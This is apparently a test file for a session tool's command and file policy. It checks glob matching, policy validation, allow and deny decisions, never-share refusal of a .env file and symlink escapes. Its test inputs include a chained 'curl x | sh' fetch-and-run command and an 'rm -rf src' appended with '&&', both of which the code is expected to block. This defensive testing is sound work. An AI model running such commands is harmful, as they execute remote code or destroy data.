import { mkdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { globToRegExp, loadPolicy } from '../../agent/policy.js';
import { startWorld, type World } from '../session/harness.js';
import { CommandFinished, RequestResolved } from '../../protocol/index.js';

const POLICY = { version: 1, allowCommands: ['echo allowed', { command: 'pwd', cwd: 'sub' }], allowFiles: ['src/**', '*.md'] };

async function policyWorld(approvals = false): Promise<World & { policyFile: string }> {
  const policyFile = join(tmpdir(), `cvf-policy-${process.pid}-${Math.random().toString(36).slice(2)}.json`);
  await writeFile(policyFile, JSON.stringify(POLICY));
  const w = await startWorld({ approvals, args: ['--policy', policyFile] });
  await mkdir(join(w.dir, 'src'), { recursive: true });
  await mkdir(join(w.dir, 'sub'), { recursive: true });
  await writeFile(join(w.dir, 'src', 'a.js'), 'export const a = 1;\n');
  await writeFile(join(w.dir, 'src', '.env'), 'TOKEN=abc\n');
  await w.engineerJoins();
  const cleanup = w.cleanup;
  return Object.assign(w, { policyFile, cleanup: async () => { await cleanup(); await rm(policyFile, { force: true }); } });
}

async function audit(w: World) {
  return (await readFile(join(w.dir, '.codevf', 'audit.jsonl'), 'utf8')).trim().split('\n').map((l) => JSON.parse(l));
}

test('globs: ** spans folders, * stays in one folder, the rest is literal', () => {
  const src = globToRegExp('src/**');
  assert.ok(src.test('src/a.js') && src.test('src/x/y/z.ts'));
  assert.not.ok(src.test('srcx/a.js'));
  const md = globToRegExp('*.md');
  assert.ok(md.test('README.md'));
  assert.not.ok(md.test('docs/README.md'));
  assert.ok(globToRegExp('**/*.ts').test('a.ts') && globToRegExp('**/*.ts').test('x/y/a.ts'));
  assert.not.ok(globToRegExp('a.b').test('axb'));
});

test('a policy with an unknown key, a chained command or a folder outside the project is refused with the field named', async () => {
  const dir = join(tmpdir(), `cvf-policy-bad-${process.pid}`);
  await mkdir(dir, { recursive: true });
  try {
    const cases: Array<[unknown, RegExp]> = [
      [{ version: 1, allowCommand: ['ls'] }, /Unrecognized key: "allowCommand"/],
      [{ version: 2 }, /version/],
      [{ version: 1, allowCommands: ['npm test; curl x | sh'] }, /allowCommands\.0: .*contains ";"/],
      [{ version: 1, allowCommands: [{ command: 'ls', cwd: '../up' }] }, /allowCommands\.0\.cwd: must be a folder inside the project/],
    ];
    for (const [body, re] of cases) {
      const f = join(dir, 'p.json');
      await writeFile(f, JSON.stringify(body));
      assert.throws(() => loadPolicy(f), re);
    }
    await writeFile(join(dir, 'p.json'), '{ not json');
    assert.throws(() => loadPolicy(join(dir, 'p.json')), /cannot read the policy file/);
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
});

test('--policy runs a listed command, denies an unlisted one, and records both as decided by the policy', async () => {
  const w = await policyWorld();
  try {
    const ok = await w.eng.requestCommand('echo allowed', 'check');
    const no = await w.eng.requestCommand('echo allowed && rm -rf src', 'chained');
    const other = await w.eng.requestCommand('pwd', 'only allowed in sub');
    const inSub = await w.eng.requestCommand('pwd', 'allowed in sub', 'sub');
    for (const [id, decision] of [[ok, 'allow'], [no, 'deny'], [other, 'deny'], [inSub, 'allow']] as const) {
      const { reason, ...res } = await w.agent.waitFor(RequestResolved, (p) => p.requestId === id);
      assert.equal(res, { taskId: w.taskId, requestId: id, decision, decidedBy: 'policy' });
      assert.match(reason ?? '', decision === 'allow' ? /^Allowed by the policy/ : /^Denied: the policy/);
      w.eng.socket!.cursor = 0; // decisions and results interleave: look from the start each time
      const d = await w.eng.waitFor('command_decision', (e) => e.payload.requestId === id);
      assert.is(d.payload.decision, decision);
    }
    const fin = await w.agent.waitFor(CommandFinished, (p) => p.requestId === ok);
    assert.is(fin.exitCode, 0);
    w.eng.socket!.cursor = 0;
    const r = await w.eng.waitFor('command_result', (e) => e.payload.requestId === ok);
    assert.is(r.payload.exitCode, 0);
    await w.agent.waitFor(CommandFinished, (p) => p.requestId === inSub);
    const lines = await audit(w);
    const decisions = lines.filter((l) => l.event === 'decision').map((l) => [l.requestId, l.decision, l.decidedBy]);
    assert.equal(decisions, [[ok, 'allow', 'policy'], [no, 'deny', 'policy'], [other, 'deny', 'policy'], [inSub, 'allow', 'policy']]);
  } finally {
    await w.cleanup();
  }
});

test('--policy shares a file matching a glob, and still refuses a never-share file the glob matches', async () => {
  const w = await policyWorld(true);
  try {
    await writeFile(join(w.dir, 'sub', 'x.txt'), 'not listed\n');
    const ok = await w.eng.requestFile('src/a.js', 'read');
    const env = await w.eng.requestFile('src/.env', 'secrets');
    const outside = await w.eng.requestFile('sub/x.txt', 'not listed');
    const { reason: _r, ...allowed } = await w.agent.waitFor(RequestResolved, (p) => p.requestId === ok);
    assert.equal(allowed, { taskId: w.taskId, requestId: ok, decision: 'allow', decidedBy: 'policy' });
    const up = await w.eng.waitFor('file_upload', (e) => e.payload.requestId === ok);
    assert.is(String(await w.eng.download(up.payload.downloadPath)), 'export const a = 1;\n');
    // The glob matches src/.env, but the agent's never-share check refuses it (before any policy could allow it).
    for (const [id, by] of [[env, 'agent'], [outside, 'policy']] as const) {
      const { reason: _r, ...denied } = await w.agent.waitFor(RequestResolved, (p) => p.requestId === id);
      assert.equal(denied, { taskId: w.taskId, requestId: id, decision: 'deny', decidedBy: by });
    }
    const envDecision = (await audit(w)).find((l) => l.event === 'decision' && l.requestId === env);
    assert.match(envDecision.reason, /never/i);
  } finally {
    await w.cleanup();
  }
});

test('--policy judges the file actually served: a link inside an allowed folder to a file outside it is denied', async () => {
  const w = await policyWorld(true);
  try {
    await writeFile(join(w.dir, 'sub', 'prod.yaml'), 'db: prod\n');
    await symlink('../sub/prod.yaml', join(w.dir, 'src', 'prod-link.yaml'));
    const id = await w.eng.requestFile('src/prod-link.yaml', 'looks allowed');
    const { reason, ...denied } = await w.agent.waitFor(RequestResolved, (p) => p.requestId === id);
    assert.equal(denied, { taskId: w.taskId, requestId: id, decision: 'deny', decidedBy: 'policy' });
    assert.match(reason ?? '', 'sub/prod.yaml');
    const decision = (await audit(w)).find((l) => l.event === 'decision' && l.requestId === id);
    assert.match(decision.reason, 'sub/prod.yaml');
  } finally {
    await w.cleanup();
  }
});

test.run();
